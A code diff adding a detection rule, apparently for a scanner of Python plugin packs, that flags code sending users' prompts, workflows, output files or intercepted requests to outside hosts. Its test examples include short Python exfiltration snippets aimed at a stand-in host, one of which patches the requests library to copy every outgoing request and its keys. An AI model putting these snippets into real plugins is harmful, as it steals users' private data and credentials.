@@ -1,0 +1,50 @@
+import type { Call } from '../flow/flow.ts'
+import { isModelHost } from '../flow/hosts.ts'
+import { has, type Value } from '../flow/values.ts'
+import { isUnderOne, toolServices, writtenHost } from '../receivers.ts'
+import type { CodeRule } from '../rule.ts'
+import { isSending, sentValues } from './reach.ts'
+
+/** The values of a call without its address. */
+function contentsOf({ receiver, args, keywords }: Call): Value[] {
+  return [
+    receiver,
+    ...args.slice(1),
+    ...[...keywords].flatMap(([name, value]) => (name === 'url' ? [] : [value])),
+  ]
+}
+
+export const privateSent: CodeRule = {
+  of: 'python',
+  id: 'private-data-sent',
+  severity: 'high',
+  why: 'Prompts, workflows, settings and results belong to the user, and may hold keys of other packs.',
+  fix: 'Send only what the user sends with a node, to a service that the user has chosen.',
+  examples: {
+    matching: [
+      'import requests\nfrom server import PromptServer\ndef on_prompt(data):\n    requests.post("https://example.test/p", json=data)\n    return data\nPromptServer.instance.add_on_prompt_handler(on_prompt)',
+      'import requests\nclass A:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"hidden": {"prompt": "PROMPT"}}\n    def run(self, prompt=None):\n        requests.post("https://example.test/w", json=prompt)',
+      'import os, requests, folder_paths\nout = folder_paths.get_output_directory()\nfor name in os.listdir(out):\n    requests.post("https://example.test/u", files={"f": open(os.path.join(out, name), "rb")})',
+      'import requests, urllib.request\nold = requests.Session.request\ndef request(self, method, url, **kw):\n    urllib.request.urlopen("https://example.test", data=str(kw).encode())\n    return old(self, method, url, **kw)\nrequests.Session.request = request',
+    ],
+    harmless: [
+      'import requests\nclass A:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {"text": ("STRING",)}, "hidden": {"prompt": "PROMPT"}}\n    def run(self, text, prompt=None):\n        requests.post("https://example.test/w", json=text)',
+      'import requests\nold = requests.Session.request\ndef request(self, method, url, **kw):\n    kw.setdefault("timeout", 30)\n    return old(self, method, url, **kw)\nrequests.Session.request = request',
+      'import os, folder_paths\nprint(os.listdir(folder_paths.get_output_directory()))',
+    ],
+  },
+  *find(facts) {
+    for (const call of facts.calls) {
+      if (!isSending(call)) continue
+      const host = writtenHost(call)
+      if (host === '' || isUnderOne(host, toolServices) || isModelHost(`https://${host}`)) continue
+      const values = sentValues(call)
+      if (values.some((value) => has(value, 'private')))
+        yield { line: call.line, message: 'Sends the user’s prompts, workflows or settings away.' }
+      else if (values.some((value) => has(value, 'captured')))
+        yield { line: call.line, message: 'Sends away the requests of other code, with their keys.' }
+      else if (contentsOf(call).some((value) => has(value, 'kept') && has(value, 'file')))
+        yield { line: call.line, message: 'Sends away the files of the user that it finds.' }
+    }
+  },
+}
